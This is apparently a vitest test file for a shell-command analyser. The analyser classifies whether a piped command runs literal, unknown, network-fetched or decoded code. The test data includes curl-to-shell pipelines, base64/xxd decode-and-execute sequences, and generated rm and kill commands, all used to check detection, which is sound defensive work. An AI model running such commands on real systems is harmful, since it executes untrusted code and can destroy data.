import { expect, test } from 'vitest';
import { effects, look } from '../../../test/support/shell/shell.ts';
import { composedByAwk, composedByFind, composedBySed } from './composed.ts';

const names = (command: string) => look(command).commands.map(({ name }) => name);

test.each([
  [`find . -name '*.so' -printf "mv '%h/%f' '%h/lib%f'\\n" | sh`, 'mv'],
  [`ls | awk '{ print "mv " $0 " old" }' | sh`, 'mv'],
  [`ls | awk '/x/ { printf("touch %s\\n", $1) }' | bash`, 'touch'],
  [`find . -name a | sed 's/.*/cp & &.bak/' | sh`, 'cp'],
  [`ps aux | awk '/x/ { system("kill " $2) }'`, 'kill'],
  [`find . -name '*~' | xargs echo rm | sh`, 'rm'],
  [`find . -name '*~' | xargs -I{} echo rm {} | sh`, 'rm'],
])('%s runs a literal line', (command, program) => {
  expect(names(command)).toContain(program);
  expect(effects(command, 'execute').filter(({ from }) => from === 'unknown')).toEqual([]);
});

test.each([
  'find . -printf "%p\\n" | sh',
  "ls | awk '{ print $0 }' | sh",
  "ls | sed 's/x/mv/' | sh",
  "ls | awk '{ x = $1; print x }' | sh",
  "awk '{ system($2) }' x",
  `awk '{ system(sprintf("rm %s", $1)) }' x`,
  'find . | xargs echo | sh',
  `cat list | sed 's/.*/mv & x/' | sh`,
])('%s runs an unknown command', (command) => {
  expect(effects(command, 'execute')).toMatchObject([{ from: 'unknown' }]);
});

test('text from the network stays code from the network', () => {
  expect(effects(`curl -s example.com | sed 's/.*/mv & x/' | sh`, 'execute')).toMatchObject([
    { from: 'network' },
  ]);
});

test('text around an unknown part is printed as written', () => {
  expect(composedByFind("a\\t%% '%p' %s\\n", 'N')).toBe("a\t% 'N' \uE000\n");
  expect(composedBySed('s|^|echo |', 'N')).toBe('echo N\n');
  expect(composedBySed('s/.*/mv & \\/x\\1/p', 'N')).toBe('mv N /xN\n');
  expect(composedBySed('s/.*/id/e', 'N')).toBeNull();
  expect(composedByAwk('{print "a", $2 "b"}', 'N')).toBe('a Nb\n');
  expect(composedByAwk('{print "a" | "sh"}', 'N')).toBeNull();
});

test.each(['{print}', '{ print; }', '/x/', '1', 'NR > 1', 'END { print }', '{ print; print }'])(
  'awk %s prints what it reads',
  (program) => {
    expect(effects(`cat list | awk '${program}' | sh`, 'execute')).toMatchObject([{ from: 'unknown' }]);
    expect(effects(`curl -s example.com | awk '${program}' | sh`, 'execute')).toMatchObject([
      { from: 'network' },
    ]);
  },
);

test.each([
  'base64 -d x > /tmp/y && sh /tmp/y',
  'xxd -r -p x > y; . ./y',
  'base64 -d x > y; chmod +x y; ./y',
])('%s runs what was hidden in a file', (command) => {
  expect(effects(command, 'execute').map(({ from }) => from)).toContain('decoded');
});
